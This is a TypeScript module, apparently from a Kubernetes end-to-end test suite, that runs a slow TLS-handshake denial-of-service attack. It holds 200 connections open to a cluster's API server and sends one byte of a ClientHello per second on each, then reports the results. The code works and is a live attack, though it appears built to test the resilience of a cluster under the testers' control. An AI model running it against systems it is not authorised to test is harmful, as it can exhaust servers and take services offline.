import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

import { KubernetesClient } from '../../e2e/cluster/kubernetes-client.ts';
import type { AttackResult } from './attack-result.ts';

/** Connections that are open at once. */
const connections = 200;

/** The begin of a ClientHello of 512 bytes, after which nothing but zeros comes, one a second. */
const hello = Buffer.from('1603010200010001fc0303', 'hex');

/** Keeps 200 connections open to the endpoint of a kubeconfig, each of which sends one byte of a TLS handshake a second; accepted are connections. */
export async function slowHandshakes({
  kubeconfig,
  ms,
}: {
  readonly kubeconfig: string;
  readonly ms: number;
}): Promise<AttackResult> {
  const { hostname: host, port } = new URL(new KubernetesClient(kubeconfig).config.getCurrentCluster()?.server ?? '');
  const end = Date.now() + ms;
  const failures: string[] = [];
  let accepted = 0;
  const speakers = Array.from({ length: connections }, async () => {
    while (Date.now() < end) {
      try {
        const socket = await open(host, Number(port === '' ? 443 : port));
        accepted += 1;
        for (let at = 0; Date.now() < end && !socket.destroyed; at += 1) {
          socket.write(Uint8Array.of(hello[at] ?? 0));
          await pause(1000);
        }
        socket.destroy();
      } catch (error) {
        failures.push((error as Error).message);
        await pause(1000);
      }
    }
  });
  await Promise.all(speakers);
  return { endedAt: Date.now(), accepted, failures };
}

function open(host: string, port: number): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port, timeout: 10_000 });
    socket.once('connect', () => {
      // The server ends what takes too long.
      socket.on('end', () => socket.destroy()).resume();
      resolve(socket);
    });
    socket.once('timeout', () => {
      if (socket.connecting) socket.destroy(new Error('no connection within 10 s'));
    });
    socket.on('error', reject);
  });
}
